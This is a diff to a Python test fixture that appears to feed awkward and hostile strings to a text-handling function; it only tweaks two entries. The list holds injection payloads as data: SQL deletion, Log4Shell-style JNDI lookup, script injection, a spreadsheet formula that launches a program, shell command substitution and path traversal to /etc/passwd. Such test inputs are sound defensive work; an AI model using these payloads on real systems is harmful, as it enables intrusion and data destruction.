@@ -10,14 +10,14 @@ OPERATORS = [
     "Robert'); DELETE FROM users;--",
     "%(id)s %s %d {0} {username} ${x}",
     '+a* -b ~c <d >e ("f" @2)',
-    "%_\\",
+    "%_\\ a",
     "$name $shop {{7*7}} ${jndi:ldap://x}",
     "<script>alert(1)</script>&amp;",
     "=cmd|' /C calc'!A0",
     "`id` $(id) | id; id",
     "../../etc/passwd",
 ]
-EMOJI = ["😀 Ada", "👩🏽‍🚀👨‍👩‍👧‍👦", "\U0001d4d0da 🇺🇳"]
+EMOJI = ["😀 Ada", "👩🏽‍🚀👨‍👩‍👧‍👦 Ada", "\U0001d4d0da 🇺🇳"]
 
 
 def shortened(text: object) -> str | None:
